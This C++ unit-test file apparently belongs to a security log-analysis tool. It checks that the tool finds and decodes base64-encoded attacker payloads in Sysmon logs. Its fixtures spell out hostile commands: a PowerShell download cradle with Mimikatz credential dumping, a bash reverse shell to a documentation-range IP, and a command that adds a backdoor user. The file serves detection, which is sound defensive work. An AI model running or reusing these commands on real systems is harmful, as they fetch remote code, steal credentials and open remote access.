// `yagura extract-base64`: FindBase64Payloads on the encodings attackers use (PowerShell's
// UTF-16LE, UTF-8, gzip, raw deflate, double encoding, executables, base64 behind a URL path)
// and on the runs of the same alphabet that are not payloads; then ExtractBase64 over a log
// file (default fields, chosen fields, time range, conditions).
#include "scan/base64_payloads.hpp"

#include <gtest/gtest.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include "core/time.hpp"
#include "test_support/deflate.hpp"

namespace yagura::scan {
namespace {

namespace fs = std::filesystem;

std::string Base64(std::string_view bytes) {
  static constexpr char ALPHABET[] =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  size_t i = 0;
  for (; i + 3 <= bytes.size(); i += 3) {
    const uint32_t n = (static_cast<uint8_t>(bytes[i]) << 16) |
                       (static_cast<uint8_t>(bytes[i + 1]) << 8) |
                       static_cast<uint8_t>(bytes[i + 2]);
    for (int shift : {18, 12, 6, 0}) out.push_back(ALPHABET[(n >> shift) & 63]);
  }
  if (bytes.size() - i == 1) {
    const uint32_t n = static_cast<uint8_t>(bytes[i]) << 16;
    out += {ALPHABET[(n >> 18) & 63], ALPHABET[(n >> 12) & 63], '=', '='};
  } else if (bytes.size() - i == 2) {
    const uint32_t n =
        (static_cast<uint8_t>(bytes[i]) << 16) | (static_cast<uint8_t>(bytes[i + 1]) << 8);
    out += {ALPHABET[(n >> 18) & 63], ALPHABET[(n >> 12) & 63], ALPHABET[(n >> 6) & 63], '='};
  }
  return out;
}

std::string Utf16Le(std::string_view ascii) {
  std::string out;
  for (char c : ascii) {
    out.push_back(c);
    out.push_back('\0');
  }
  return out;
}

const std::string SCRIPT =
    "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/stage2.ps1'); "
    "Invoke-Mimikatz -DumpCreds";

TEST(Base64Payloads, PowerShellEncodedCommandIsUtf16) {
  const std::string encoded = Base64(Utf16Le(SCRIPT));
  auto found = FindBase64Payloads("powershell.exe -NoP -sta -w 1 -enc " + encoded);
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0].encoding, "utf-16le");
  EXPECT_EQ(found[0].text, SCRIPT);
  EXPECT_EQ(found[0].encoded, encoded);
  EXPECT_EQ(found[0].decoded_bytes, SCRIPT.size() * 2);
  EXPECT_EQ(found[0].layers, 1);
  EXPECT_TRUE(found[0].compression.empty());
}

TEST(Base64Payloads, Utf8WithPaddingAndBehindAUrlPath) {
  const std::string command = "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1 &";
  const std::string encoded = Base64(command);
  ASSERT_EQ(encoded.back(), '=');
  auto found = FindBase64Payloads("echo " + encoded + " | base64 -d | sh");
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0].encoding, "utf-8");
  EXPECT_EQ(found[0].text, command);
  EXPECT_EQ(found[0].encoded, encoded) << "with its padding";
  // A web shell's argument at the end of a URL path: the slashes before it are passed over.
  found = FindBase64Payloads("GET /uploads/shell/" + encoded + " HTTP/1.1");
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0].text, command);
  EXPECT_EQ(found[0].encoded, encoded);
}

TEST(Base64Payloads, GzipAndRawDeflateInflateToText) {
  auto found = FindBase64Payloads(
      "powershell -c \"$s=New-Object IO.MemoryStream(,[Convert]::"
      "FromBase64String('" +
      Base64(test_support::Deflate(SCRIPT, test_support::GZIP_WINDOW, 9)) + "'))\"");
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0].compression, "gzip");
  EXPECT_EQ(found[0].text, SCRIPT);
  // PowerShell's DeflateStream writes raw deflate, without a header.
  const std::string long_script = SCRIPT + "; " + SCRIPT + "; Start-Sleep 5";
  found = FindBase64Payloads(
      "IO.Compression.DeflateStream([IO.MemoryStream][Convert]::"
      "FromBase64String('" +
      Base64(test_support::Deflate(long_script, test_support::RAW_WINDOW, 9)) +
      "'),[IO.Compression."
      "CompressionMode]::Decompress)");
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0].compression, "deflate");
  EXPECT_EQ(found[0].text, long_script);
}

TEST(Base64Payloads, DoubleEncodingIsDecodedToTheInnermostText) {
  const std::string inner = "whoami /all; net user backdoor P@ssw0rd /add";
  const std::string outer =
      "IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('" + Base64(inner) + "')))";
  auto found = FindBase64Payloads("powershell -enc " + Base64(Utf16Le(outer)));
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0].layers, 2);
  EXPECT_EQ(found[0].text, inner);
  EXPECT_EQ(found[0].outer_text, outer);
  EXPECT_EQ(found[0].encoding, "utf-16le");
}

TEST(Base64Payloads, ExecutablesAreNamedByTheirMagic) {
  std::string pe = "MZ";
  pe += std::string(62, '\x90');
  pe += "\x00\x01\x02\xff";
  auto found = FindBase64Payloads("certutil -decode " + Base64(pe) + " out.exe");
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0].encoding, "binary");
  EXPECT_EQ(found[0].file_type, "pe");
  EXPECT_TRUE(found[0].text.empty());
  EXPECT_EQ(found[0].binary_head.substr(0, 8), "4d5a9090");
  std::string elf =
      "\x7f"
      "ELF\x02\x01\x01";
  elf += std::string(40, '\0');
  found = FindBase64Payloads(Base64(elf));
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0].file_type, "elf");
}

TEST(Base64Payloads, RunsOfTheAlphabetThatDecodeToNoiseAreNotPayloads) {
  for (std::string_view text : {
           "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",  // SHA-256
           "SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=D41D8CD98F00B204E9800998ECF8427E",
           "{8c3e4b1f-2a9d-4c7e-b5f6-0d1a2b3c4d5e}",
           "C:/Windows/System32/WindowsPowerShell/v1.0/powershell.exe",
           "/usr/local/lib/python3.11/site-packages/requests/adapters.py",
           "SwachchhandaP/Downloads/",  // raw deflate of a byte: too short to be a script
           "FromBase64StringToolsAndUtilities",
           "HKLM/SOFTWARE/Microsoft/Windows/CurrentVersion/Run",
       }) {
    EXPECT_TRUE(FindBase64Payloads(text).empty()) << text;
  }
  // Shorter than the minimum length: not looked at.
  EXPECT_TRUE(FindBase64Payloads("echo " + Base64("id;uname -a")).empty());
  EXPECT_EQ(FindBase64Payloads("echo " + Base64("id;uname -a"), 8).size(), 1u);
}

TEST(Base64Payloads, ExtractBase64ReadsTheCommandFieldsOfALogFile) {
  const fs::path dir = fs::temp_directory_path() / ("yagura-base64-" + std::to_string(::getpid()));
  fs::create_directories(dir);
  const std::string encoded = Base64(Utf16Le(SCRIPT));
  auto event = [&](int second, std::string_view host, std::string_view field,
                   std::string_view value) {
    return R"({"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":")" +
           std::string(host) +
           R"(","TimeCreated":{"#attributes":{"SystemTime":"2026-11-26T10:00:0)" +
           std::to_string(second) + R"(Z"}}},"EventData":{")" + std::string(field) + R"(":")" +
           std::string(value) + "\"}}}\n";
  };
  std::ofstream(dir / "sysmon.json") << event(1, "ws1", "CommandLine", "powershell -enc " + encoded)
                                     << event(2, "ws2", "CommandLine", "notepad.exe")
                                     << event(3, "ws3", "OriginalFileName", encoded)
                                     << event(4, "ws4", "ParentCommandLine", "cmd /c " + encoded);
  auto run = [&](Base64Options options) {
    options.inputs = {(dir / "sysmon.json").string()};
    std::vector<std::string> seen;
    Diagnostics diagnostics([](const Diagnostic&) {});
    auto summary = ExtractBase64(options, diagnostics, [&](const FoundPayload& found) {
      EXPECT_EQ(found.payload.text, SCRIPT);
      EXPECT_EQ(found.event_id, "1");
      ASSERT_TRUE(found.time_ms);
      seen.push_back(std::string(found.host) + " " + std::string(found.field) + " " +
                     FormatTimestampMs(*found.time_ms));
    });
    EXPECT_TRUE(summary) << summary.error().ToString();
    if (summary) {
      EXPECT_EQ(summary->payloads, seen.size());
    }
    return seen;
  };
  // Default fields: command lines, not OriginalFileName.
  EXPECT_EQ(run({}), (std::vector<std::string>{"ws1 CommandLine 2026-11-26T10:00:01.000Z",
                                               "ws4 ParentCommandLine 2026-11-26T10:00:04.000Z"}));
  Base64Options chosen;
  chosen.fields = {"OriginalFileName"};
  EXPECT_EQ(run(chosen),
            (std::vector<std::string>{"ws3 OriginalFileName 2026-11-26T10:00:03.000Z"}));
  Base64Options ranged;
  ranged.from_ms = *ParseIsoDateTimeMs("2026-11-26T10:00:02Z");
  EXPECT_EQ(run(ranged),
            (std::vector<std::string>{"ws4 ParentCommandLine 2026-11-26T10:00:04.000Z"}));
  Base64Options where;
  where.conditions = {"Computer=ws1"};
  EXPECT_EQ(run(where), (std::vector<std::string>{"ws1 CommandLine 2026-11-26T10:00:01.000Z"}));
  where.conditions = {"Computer|nosuch=ws1"};
  Diagnostics diagnostics([](const Diagnostic&) {});
  EXPECT_FALSE(ExtractBase64(where, diagnostics, [](const FoundPayload&) {}));
  fs::remove_all(dir);
}

}  // namespace
}  // namespace yagura::scan
